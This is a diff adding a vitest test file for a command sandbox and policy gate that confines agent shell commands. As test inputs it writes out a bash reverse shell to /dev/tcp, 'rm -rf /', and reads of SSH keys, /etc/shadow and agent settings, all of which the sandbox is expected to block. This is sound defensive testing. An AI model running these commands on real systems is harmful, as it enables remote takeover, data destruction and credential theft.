@@ -1,0 +1,225 @@
+import { execFileSync, spawn } from 'node:child_process'
+import { once } from 'node:events'
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs'
+import { createServer } from 'node:http'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { sandboxObstacle } from '../../src/doors/shell/sandbox.ts'
+import { binary, type Ended } from './binary.ts'
+import { RunningGate, readEntries } from './running-gate.ts'
+
+const obstacle = await sandboxObstacle()
+const needs = obstacle === undefined ? '' : ` — SKIPPED, needs bubblewrap, socat and ripgrep: ${obstacle}`
+
+let home: string
+let project: string
+beforeAll(() => {
+  home = mkdtempSync(join(tmpdir(), 'sandbox-'))
+  project = join(home, 'project')
+  mkdirSync(join(home, '.ssh'))
+  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'private words')
+  mkdirSync(join(home, '.claude'))
+  writeFileSync(join(home, '.claude', 'settings.json'), '{"hooks":{}}')
+  writeFileSync(join(home, '.bashrc'), 'alias mine=1')
+  mkdirSync(join(project, '.git', 'hooks'), { recursive: true })
+  writeFileSync(join(project, 'AGENTS.md'), 'Use tabs.')
+})
+afterAll(() => rmSync(home, { recursive: true, force: true }))
+
+async function run(
+  argv: readonly string[],
+  env: Readonly<Record<string, string>> = {},
+  cwd = project,
+): Promise<Ended> {
+  const child = spawn(process.execPath, [binary, 'run', ...argv], {
+    cwd,
+    env: { PATH: process.env.PATH, HOME: home, NO_COLOR: '1', ...env },
+    stdio: ['ignore', 'pipe', 'pipe'],
+  })
+  const texts = { out: '', err: '' }
+  child.stdout.on('data', (chunk) => {
+    texts.out += chunk
+  })
+  child.stderr.on('data', (chunk) => {
+    texts.err += chunk
+  })
+  const [code] = await once(child, 'close')
+  return { code, ...texts }
+}
+
+describe.skipIf(obstacle !== undefined)(`a command in the sandbox${needs}`, () => {
+  test('works in the work tree, and passes on what it says and its exit code', async () => {
+    expect(await run(['--', 'sh', '-c', 'echo one > made; cat made; echo two >&2; exit 3'])).toEqual({
+      code: 3,
+      out: 'one\n',
+      err: 'two\n',
+    })
+    expect(readFileSync(join(project, 'made'), 'utf8')).toBe('one\n')
+  })
+
+  test('words with spaces and quotes arrive as they were given', async () => {
+    expect((await run(['--', 'printf', '%s|', 'a b', "it's", '$HOME', ''])).out).toBe("a b|it's|$HOME||")
+  })
+
+  test('writes nowhere else, and not into what shells and agents obey', async () => {
+    const places = [
+      '../beside',
+      '/tmp/portcullis-sandbox-test',
+      '/etc/portcullis-test',
+      'AGENTS.md',
+      '.git/hooks/pre-commit',
+    ]
+    const tries = places.map((place) => `echo x > ${place} && echo written ${place}`).join('; ')
+    expect((await run(['--policy', 'observe', '-c', tries])).out).toBe('')
+    expect(readFileSync(join(project, 'AGENTS.md'), 'utf8')).toBe('Use tabs.')
+    expect(existsSync(join(project, '.git', 'hooks', 'pre-commit'))).toBe(false)
+    expect(existsSync('/tmp/portcullis-sandbox-test')).toBe(false)
+  })
+
+  test('--write opens one more folder', async () => {
+    const more = mkdtempSync(join(tmpdir(), 'more-'))
+    expect((await run(['--write', more, '-c', `echo x > ${more}/a`])).code).toBe(0)
+    expect(readFileSync(join(more, 'a'), 'utf8')).toBe('x\n')
+    rmSync(more, { recursive: true })
+  })
+
+  test('reads no keys, no shell settings, no settings of agents, by whatever name', async () => {
+    symlinkSync(join(home, '.ssh'), join(project, 'link'))
+    const texts = [
+      'cat ~/.ssh/id_ed25519',
+      'cat link/id_ed25519',
+      'cat ~/.bashrc',
+      'cat ~/.claude/settings.json',
+      'cat /proc/self/root/$HOME/.ssh/id_ed25519',
+      'cat /etc/shadow',
+      'python3 -c "print(open(\'$HOME/.ssh/id_ed25519\').read())"',
+    ]
+    const { out } = await run(['--policy', 'observe', '-c', texts.join('; ')])
+    expect(out).not.toMatch(/private words|alias|hooks|root:/)
+    expect((await run(['--policy', 'observe', '--hide', 'made', '-c', 'cat made'])).out).toBe('')
+  })
+
+  test('secrets of the environment stay outside, and other processes out of sight', async () => {
+    const { out } = await run(['-c', 'echo "[$GITHUB_TOKEN][$COLOUR]"; ls /proc | grep -c "^[0-9]"'], {
+      GITHUB_TOKEN: 'ghp_x',
+      COLOUR: 'red',
+    })
+    expect(out.split('\n')[0]).toBe('[][red]')
+    expect(Number(out.split('\n')[1])).toBeLessThan(20)
+  })
+
+  test('reaches nothing but the hosts it was given', async () => {
+    const server = createServer((_request, response) => response.end('reached')).listen(0, '127.0.0.1')
+    await once(server, 'listening')
+    const bound = server.address()
+    const port = typeof bound === 'object' && bound !== null ? bound.port : 0
+    const direct = await run(['--', 'curl', '-sS', '-m', '3', '--noproxy', '*', `http://127.0.0.1:${port}/`])
+    expect(direct.out).toBe('')
+    const other = await run([
+      '--allow-domain',
+      'allowed.test',
+      '--',
+      'curl',
+      '-sS',
+      '-m',
+      '5',
+      `http://other.test:${port}/`,
+    ])
+    expect(other.out).not.toContain('reached')
+    expect(other.err).toContain('other.test')
+    server.close()
+  })
+
+  test('ends at its limits of time and of output', async () => {
+    const began = Date.now()
+    const slow = await run(['--time', '1', '-c', 'sleep 60 & sleep 60'])
+    expect(slow).toMatchObject({ code: 124, err: expect.stringContaining('--time') })
+    expect(Date.now() - began).toBeLessThan(30_000)
+    const loud = await run(['--output', '0.001', '-c', 'yes'])
+    expect(loud).toMatchObject({ code: 123, err: expect.stringContaining('--output') })
+    expect(loud.out.length).toBe(1_048)
+  })
+
+  test('is recorded in the ledger of a store, from the decision to how it ended', async () => {
+    const store = join(home, 'store')
+    expect((await run(['--store', store, '-c', 'true'])).code).toBe(0)
+    expect((await run(['--store', store, '-c', 'false'])).code).toBe(1)
+    expect((await run(['--store', store, '--', 'rm', '-rf', '/'])).code).toBe(126)
+    const entries = readEntries(join(store, 'ledger'))
+    expect(entries.filter(({ kind }) => kind === 'agent-outcome').map(({ outcome }) => outcome)).toEqual([
+      'done',
+      'failed',
+    ])
+    expect(entries.filter(({ kind }) => kind === 'agent-act').at(-1)).toMatchObject({
+      agent: 'shell',
+      decision: { action: 'deny' },
+    })
+  })
+
+  test('is judged and recorded by a running gate, and does not run when the gate is gone', async () => {
+    const gate = await RunningGate.open(
+      'upstreams: [{ name: none, protocol: openai, url: "http://127.0.0.1:9/v1" }]\nagents: { mode: enforce }',
+    )
+    const { url } = gate
+    expect(await run(['--gate', url, '--', 'echo', 'hello'])).toMatchObject({ code: 0, out: 'hello\n' })
+    expect((await run(['--gate', url, '--', 'rm', '-rf', '/'])).code).toBe(126)
+    expect(gate.entries().map(({ kind }) => kind)).toEqual(['agent-act', 'agent-outcome', 'agent-act'])
+    await gate[Symbol.asyncDispose]()
+    expect(await run(['--gate', url, '--', 'echo', 'hello'])).toMatchObject({ code: 126, out: '' })
+  })
+})
+
+describe('without a sandbox', () => {
+  test('a refused command is not run, whether or not a sandbox can be made', async () => {
+    const { code, err } = await run(['-c', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'])
+    expect({ code, err }).toEqual({ code: 126, err: expect.stringMatching(/Not run\. .*no-remote-shells/) })
+    expect((await run(['--', 'crontab', 'jobs'])).code).toBe(126)
+  })
+
+  test('a machine without bubblewrap, or without namespaces, is told what to do, and nothing runs', async () => {
+    const bin = mkdtempSync(join(tmpdir(), 'bin-'))
+    const place = (name: string, text: string) => {
+      writeFileSync(join(bin, name), text)
+      chmodSync(join(bin, name), 0o755)
+    }
+    expect(await run(['--', 'touch', 'ran'], { PATH: bin })).toMatchObject({
+      code: 125,
+      err: expect.stringContaining('apt-get install bubblewrap socat ripgrep'),
+    })
+    place('bwrap', '#!/bin/sh\necho "bwrap: No permissions to create new namespace" >&2\nexit 1\n')
+    for (const name of ['socat', 'rg']) place(name, '#!/bin/sh\nexit 0\n')
+    symlinkSync(
+      execFileSync('sh', ['-c', 'command -v which'], { encoding: 'utf8' }).trim(),
+      join(bin, 'which'),
+    )
+    expect(await run(['--', 'touch', 'ran'], { PATH: `${bin}:/bin` })).toMatchObject({
+      code: 125,
+      err: expect.stringMatching(/No permissions to create new namespace.*sysctl/),
+    })
+    expect(existsSync(join(project, 'ran'))).toBe(false)
+    rmSync(bin, { recursive: true })
+  })
+
+  test('a folder that holds the whole home folder, and options that are none, are refused', async () => {
+    expect((await run(['--', 'true'], {}, home)).code).toBe(2)
+    for (const argv of [
+      [],
+      ['-c', 'true', '--', 'true'],
+      ['--time', 'soon', '--', 'true'],
+      ['--allow-domain', 'https://x', '--', 'true'],
+      ['--write', 'nowhere', '--', 'true'],
+      ['--gate', 'http://g', '--store', 's', '--', 'true'],
+    ])
+      expect((await run(argv)).code, argv.join(' ')).toBe(2)
+  })
+})
